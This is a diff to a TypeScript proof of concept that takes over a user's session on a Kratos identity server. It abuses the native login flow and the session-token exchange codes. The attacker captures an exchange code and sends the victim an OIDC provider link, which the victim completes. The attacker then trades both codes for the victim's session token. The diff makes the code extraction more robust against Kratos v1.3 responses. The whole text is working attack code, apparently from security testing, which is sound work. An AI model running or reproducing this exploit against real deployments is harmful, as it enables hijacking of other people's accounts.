@@ -12,11 +12,6 @@ export interface TakeOver {
   readonly victim: Browser;
 }
 
-interface NativeFlow {
-  readonly session_token_exchange_code: string;
-  readonly ui: { readonly action: string };
-}
-
 /**
  * Goes for somebody's session by a native flow: the attacker begins it and ends it once to learn the code that comes back,
  * the victim ends it once more by the attacker's link, and the attacker exchanges the codes for a session token.
@@ -28,20 +23,22 @@ export async function takeOver({ kratos, provider, attacker, victim }: TakeOver)
     `${kratos}/self-service/login/api?return_session_token_exchange_code=true`,
     { accept: JSON_TYPE },
   );
-  if (begun.status !== 200) return "refused at the start";
-  const flow = JSON.parse(begun.body) as NativeFlow;
-  const { pathname, search } = new URL(flow.ui.action);
+  // Kratos v1.3 also tells of a flow that a guard has refused, which is stored nowhere.
+  const code = /"session_token_exchange_code":"([^"]+)"/.exec(begun.body)?.[1];
+  const action = /"action":"([^"]+)"/.exec(begun.body)?.[1];
+  if (code === undefined || action === undefined) return "refused at the start";
+  const { pathname, search } = new URL(action);
   const sent = await attacker.ask(kratos + pathname + search, {
     accept: JSON_TYPE,
     form: new URLSearchParams({ method: "oidc", provider }),
   });
   const { redirect_browser_to: link } = JSON.parse(sent.body) as { redirect_browser_to?: string };
-  if (link === undefined) return `refused at the provider: ${sent.body}`;
+  if (link === undefined) return "refused at the form";
   const back = await atIssuer(attacker, link, people.alsoAdmitted);
   const returnCode = new URL(back).searchParams.get("code") ?? "";
   await atIssuer(victim, link, people.admitted);
   const codes = new URLSearchParams({
-    init_code: flow.session_token_exchange_code,
+    init_code: code,
     return_to_code: returnCode,
   });
   const exchanged = await attacker.ask(`${kratos}/sessions/token-exchange?${codes.toString()}`, {
